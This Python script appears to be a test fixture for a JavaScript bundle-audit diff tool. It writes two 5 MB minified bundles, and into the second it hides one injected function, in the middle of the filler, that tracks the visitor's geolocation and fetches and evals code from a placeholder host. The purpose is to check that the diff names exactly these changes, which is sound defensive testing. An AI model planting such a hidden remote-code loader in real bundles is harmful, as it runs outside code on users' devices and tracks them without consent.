#!/usr/bin/env python3
"""Writes two bundles of 5 MB of minified code that differ in three things: a use of the place, a host, an eval.

    scripts/big-pair.py FOLDER && otaudit diff FOLDER/before FOLDER/after

All variables have other names in the second one. The comparison has to name the three and nothing else.
"""
import pathlib
import sys


def function(prefix: str, number: int) -> str:
    a, b = number % 97, number * 2654435761 % 1000003
    return (
        f'function {prefix}{number}(t,n){{var r=t.item{a}||"text {b}";'
        f"if(n>{b}){{r=r.concat(n/{a},/x{b}[/]/.test(r)?1:2);document.title=r}}"
        f"return{{key{a}:r,next:function(e){{return e?n+{b}:`${{r}}/${{n}}`}}}}}}"
    )


def main(folder: str) -> None:
    added = (
        "function zz(){navigator.geolocation.watchPosition(p=>{document.title=p.coords.latitude});"
        "fetch('https://tides.example.com/rules').then(r=>r.text()).then(t=>eval(t))}zz();"
    )
    for name, prefix, more in (("before", "q", ""), ("after", "w", added)):
        place = pathlib.Path(folder, name)
        place.mkdir(parents=True, exist_ok=True)
        (place / "index.html").write_text("<!doctype html><title>x</title><script src=a.js></script>")
        functions = [function(prefix, number) for number in range(24_000)]
        functions.insert(12_000, more)
        (place / "a.js").write_text("".join(functions))


main(sys.argv[1])
